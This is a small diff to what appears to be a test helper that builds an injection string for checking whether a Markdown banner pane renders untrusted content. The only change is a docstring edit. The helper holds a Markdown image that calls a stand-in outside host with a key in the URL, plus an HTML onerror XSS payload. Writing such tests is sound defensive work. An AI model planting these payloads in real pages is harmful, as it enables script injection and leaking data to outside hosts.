@@ -36,7 +36,7 @@ def _browser_present():
 
 def _injection(key: str) -> str:
     """Markdown that would fetch an outside image, and HTML that would open a dialog, if the
-    page rendered them (the banner is a Markdown pane)."""
+    page rendered them (the banner is an Alert, a Markdown pane)."""
     return f"![m](http://bad.invalid/{key}.png)<img src=x onerror=alert('{key}')>"
 
 
